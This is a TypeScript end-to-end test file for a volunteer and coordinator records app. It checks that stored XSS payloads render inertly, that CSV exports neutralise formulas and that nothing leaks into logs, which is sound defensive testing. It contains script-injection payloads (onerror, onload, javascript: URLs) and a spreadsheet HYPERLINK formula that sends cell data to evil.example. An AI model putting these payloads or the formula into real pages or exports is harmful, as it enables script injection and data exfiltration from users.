// Script payloads in every user-typed field render as text on every screen that shows them, and
// nothing runs: records, names, places, notes and review comments holding <script>, <img onerror>,
// <svg onload> and javascript: payloads are pushed through the real API, pulled by a volunteer's
// phone and opened by a coordinator in Chromium, with the page's CSP bypassed so that the app's
// own escaping is what is tested (CSP is the second line, checked in tests/server/headers.test.ts).
import { randomUUID } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import {
  api,
  COORDINATOR_PASSWORD,
  launchChromium,
  newPhone,
  seedOrg,
  TestServer,
  VOLUNTEER_PASSWORD,
  type SeededOrg,
} from './harness';
import { signIn } from './flows';

/** A payload per field: it calls __xss(field) if it ever runs, and shows `field` when escaped. */
const long = (field: string) =>
  `<img src=x onerror="__xss('${field}')"><script>__xss('${field}')</script>~${field}~`;
const short = (field: string) => `<svg onload=__xss('${field}')>~${field}~`;

/** A note a spreadsheet would run as a formula when the coordinator opens the CSV export. */
const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"details")';

const INJECTED = '[onerror],[onload],iframe,object,embed,script:not([src]):not([type])';

let server: TestServer;
let browser: Browser;
let org: SeededOrg;
const contexts: BrowserContext[] = [];
const ids = { help: '', loan: '', equipment: '' };

/** A page on which every __xss call, alert and injected element is recorded. */
async function watchedPage(): Promise<{ page: Page; hits: string[] }> {
  const context = await newPhone(browser, server.url, { bypassCSP: true });
  contexts.push(context);
  const hits: string[] = [];
  await context.exposeFunction('__xss', (field: string) => hits.push(field));
  const page = await context.newPage();
  page.on('dialog', (d) => {
    hits.push(`dialog: ${d.message()}`);
    void d.dismiss();
  });
  return { page, hits };
}

/** The page's text and the values of its fields (a textarea's text is not in innerText). */
const shownText = (page: Page) =>
  page.evaluate(() =>
    [
      document.body.innerText,
      ...[...document.querySelectorAll('input, textarea')].map((e) => (e as HTMLInputElement).value),
    ].join('\n'),
  );

/** Opens `hash`, waits until every field in `fields` shows as text, and checks nothing ran. */
async function expectInert(
  page: Page,
  hits: string[],
  hash: string,
  fields: string[],
  /** For screens that draw the payloads on a canvas only: a text that shows they have loaded. */
  ready?: string,
): Promise<void> {
  await page.evaluate((h) => (window.location.hash = h), hash);
  try {
    await page.waitForFunction(
      (want) => {
        const values = [...document.querySelectorAll('input, textarea')].map(
          (e) => (e as HTMLInputElement).value,
        );
        const shown = [document.body.innerText, ...values].join('\n');
        return want.fields.every((f) => shown.includes(`~${f}~`)) && shown.includes(want.ready);
      },
      { fields, ready: ready ?? '' },
      { timeout: 20_000 },
    );
  } catch {
    const text = await shownText(page);
    throw new Error(`${hash}: not all of ${fields.join(', ')} shown; the page says:\n${text.slice(0, 5000)}`);
  }
  // The payloads are shown literally, tags and all.
  const text = await shownText(page);
  for (const f of fields) expect(text, `${hash} ${f}`).toMatch(new RegExp(`<(img|svg)[^\\n]*~${f}~`));
  const injected = await page.evaluate(
    (sel) => [...document.querySelectorAll(sel)].map((e) => e.outerHTML.slice(0, 120)),
    INJECTED,
  );
  expect(injected, hash).toEqual([]);
  const jsLinks = await page.evaluate(() =>
    [...document.querySelectorAll('a[href]')]
      .map((a) => a.getAttribute('href') ?? '')
      .filter((h) => /^\s*javascript:/i.test(h)),
  );
  expect(jsLinks, hash).toEqual([]);
  expect(hits, hash).toEqual([]);
}

beforeAll(async () => {
  browser = await launchChromium();
  server = await TestServer.launch();
  org = await seedOrg(server.url);
  const coord = org.coordinator;
  // Reference data and equipment with payloads in their names and notes.
  const [placeId] = await coord.upsert('locations', [
    { name: long('placeName'), address: long('placeAddress'), active: true },
  ]);
  await coord.upsert('topics', [{ key: 'xss_topic', labels: { en: long('topicLabel') }, active: true }]);
  await coord.upsert('partners', [
    {
      name: long('partnerName'),
      contact: long('partnerContact'),
      url: 'javascript:__xss("url")',
      active: true,
    },
  ]);
  [ids.equipment = ''] = await coord.upsert('equipment', [
    {
      assetTag: short('tag').slice(0, 40),
      kind: 'laptop',
      make: long('make'),
      model: long('model'),
      notes: long('equipmentNotes'),
      status: 'ready',
    },
  ]);
  await coord.upsert('borrowers', [
    { borrowerCode: short('bcode'), name: long('borrowerName'), phone: short('phone'), consent: true },
  ]);
  // A volunteer with a payload name, whose records the phone pulls.
  const volunteer = await api<{ user: { id: string } }>(server.url, '/users', {
    token: coord.session.token,
    body: {
      email: `xss-${randomUUID().slice(0, 6)}@e2e.test`,
      name: long('userName'),
      password: VOLUNTEER_PASSWORD,
      role: 'volunteer',
    },
    expect: 201,
  });
  expect(volunteer.user.id).toBeTruthy();
  const seedPhone = await api<{ token: string; deviceId: string }>(server.url, '/auth/login', {
    body: { email: org.volunteer.email, password: org.volunteer.password },
  });
  ids.help = randomUUID();
  ids.loan = randomUUID();
  const now = new Date().toISOString();
  const pushed = await api<{ results: Array<{ status: string }> }>(server.url, '/sync/push', {
    token: seedPhone.token,
    body: {
      deviceId: seedPhone.deviceId,
      schemaVersion: 1,
      mutations: [
        {
          mutationId: 1,
          table: 'help_requests',
          op: 'upsert',
          id: ids.help,
          baseVersion: null,
          record: {
            id: ids.help,
            occurredAt: now,
            channel: 'street_stand',
            topics: ['xss_topic'],
            outcome: 'referred',
            locationId: placeId,
            note: long('note'),
            serviceSignal: long('serviceSignal'),
            districtOrPostcode: short('district'),
            visitorCode: short('visitor'),
          },
        },
        {
          mutationId: 2,
          table: 'loans',
          op: 'upsert',
          id: ids.loan,
          baseVersion: null,
          record: {
            id: ids.loan,
            equipmentId: org.laptop.id,
            kind: 'loan',
            borrowerCode: short('bcode'),
            startedAt: now,
            conditionOut: long('conditionOut'),
            notes: long('loanNotes'),
          },
        },
        // Four more at the same place and topic: a report shows groups of five or more only.
        ...[3, 4, 5, 6].map((mutationId) => {
          const id = randomUUID();
          return {
            mutationId,
            table: 'help_requests',
            op: 'upsert',
            id,
            baseVersion: null,
            record: {
              id,
              occurredAt: now,
              channel: 'phone',
              topics: ['xss_topic'],
              outcome: 'solved',
              locationId: placeId,
              note: FORMULA,
            },
          };
        }),
      ],
    },
  });
  expect(pushed.results.every((r) => r.status === 'applied')).toBe(true);
  // A second open loan of the same laptop: a conflict for the coordinator's queue.
  const otherPhone = await api<{ token: string; deviceId: string }>(server.url, '/auth/login', {
    body: { email: org.coordinator.session.user.email, password: COORDINATOR_PASSWORD },
  });
  const second = randomUUID();
  const conflict = await api<{ results: Array<{ status: string }> }>(server.url, '/sync/push', {
    token: otherPhone.token,
    body: {
      deviceId: otherPhone.deviceId,
      schemaVersion: 1,
      mutations: [
        {
          mutationId: 1,
          table: 'loans',
          op: 'upsert',
          id: second,
          baseVersion: null,
          record: {
            id: second,
            equipmentId: org.laptop.id,
            kind: 'loan',
            borrowerCode: short('bcode2'),
            startedAt: now,
          },
        },
      ],
    },
  });
  expect(conflict.results[0]?.status).toBe('conflict');
  await api(server.url, `/records/help_requests/${ids.help}`, {
    method: 'PATCH',
    token: coord.session.token,
    body: { reviewState: 'has_issues', reviewComment: long('reviewComment') },
  });
});

afterAll(async () => {
  for (const c of contexts) await c.close().catch(() => undefined);
  await browser?.close();
  await server?.dispose();
});

describe('script payloads render as text', () => {
  it('on the volunteer’s phone: recent list, help record, loans and the loan', async () => {
    const { page, hits } = await watchedPage();
    await signIn(page, org.volunteer.email, org.volunteer.password);
    // The coordinator's "has issues" comment shows on Recent and above the form that corrects it.
    await expectInert(page, hits, '#/recent', ['bcode', 'reviewComment']);
    await expectInert(page, hits, `#/help/${ids.help}`, [
      'note',
      'serviceSignal',
      'placeName',
      'reviewComment',
    ]);
    await expectInert(page, hits, '#/loans', ['bcode']);
    await expectInert(page, hits, `#/loans/${ids.loan}`, ['bcode']);
  });

  it('in the coordinator workspace: inbox, record, loans, equipment, reference, people, report, privacy', async () => {
    const { page, hits } = await watchedPage();
    const email = `coord-xss-${randomUUID().slice(0, 6)}@e2e.test`;
    await api(server.url, '/users', {
      token: org.coordinator.session.token,
      body: { email, name: 'Coordinator XSS', password: COORDINATOR_PASSWORD, role: 'coordinator' },
      expect: 201,
    });
    await signIn(page, email, COORDINATOR_PASSWORD);
    await expectInert(page, hits, '#/review/inbox', ['placeName', 'userName']);
    await expectInert(page, hits, `#/review/record/help_requests/${ids.help}`, ['note', 'reviewComment']);
    await expectInert(page, hits, `#/review/record/loans/${ids.loan}`, ['bcode', 'loanNotes']);
    await expectInert(page, hits, '#/review/loans', ['bcode', 'borrowerName', 'phone']);
    await expectInert(page, hits, '#/review/conflicts', ['bcode2']);
    await expectInert(page, hits, '#/review/equipment', ['tag']);
    await expectInert(page, hits, `#/review/record/equipment/${ids.equipment}`, ['make', 'equipmentNotes']);
    await expectInert(page, hits, '#/review/reference', ['placeName', 'partnerName']);
    await expectInert(page, hits, '#/review/people', ['userName']);
    // After a page without these payloads, so the wait sees the item's page and not the one before.
    await expectInert(page, hits, `#/review/asset/${ids.equipment}`, ['tag', 'make', 'equipmentNotes']);
    // The funder report and dashboard draw charts on a canvas, with their figures in tables beside them.
    await expectInert(page, hits, '#/review/report', [], 'Help requests per week');
    await expectInert(page, hits, '#/review/dashboard', [], 'Outcomes by topic');
    // A borrower's data in words, and the information sheet naming a payload privacy contact.
    await expectInert(page, hits, `#/review/borrower/${encodeURIComponent(short('bcode'))}`, [
      'bcode',
      'borrowerName',
      'phone',
    ]);
    await api(server.url, '/org', {
      method: 'PATCH',
      token: org.coordinator.session.token,
      body: { privacyContact: long('privacyContact') },
    });
    await expectInert(page, hits, '#/review/info-sheet/en/both', ['privacyContact']);
  });

  it('never as HTML from the CSV export or the borrower export', async () => {
    const token = org.coordinator.session.token;
    for (const table of ['help_requests', 'loans', 'borrowers', 'locations']) {
      const res = await fetch(`${server.url}/api/v1/export/${table}.csv`, {
        headers: { authorization: `Bearer ${token}` },
      });
      expect(res.status).toBe(200);
      expect(res.headers.get('content-type')).toMatch(/^text\/csv/);
      expect(res.headers.get('content-disposition')).toMatch(/^attachment;/);
      expect(res.headers.get('x-content-type-options')).toBe('nosniff');
      if (table === 'help_requests') {
        const csv = await res.text();
        expect(csv).toContain('~note~');
        expect(csv).toContain(`"'${FORMULA.replaceAll('"', '""')}"`);
      }
    }
    const borrower = await fetch(
      `${server.url}/api/v1/borrowers/${encodeURIComponent(short('bcode'))}/export`,
      {
        headers: { authorization: `Bearer ${token}` },
      },
    );
    expect(borrower.status).toBe(200);
    expect(borrower.headers.get('content-type')).toMatch(/^application\/json/);
  });

  it('leaves none of those names, notes, codes or comments in the real server’s log', () => {
    // The server ran as `npm run serve` does (main.ts, its real logger) through all of the above.
    expect(server.log).toMatch(/request completed/);
    const leaked = [...server.log.matchAll(/~(\w+)~|__xss|HYPERLINK/g)].map((m) => m[0]);
    expect(leaked).toEqual([]);
    expect(server.log).not.toContain(org.coordinator.session.token);
  });
});
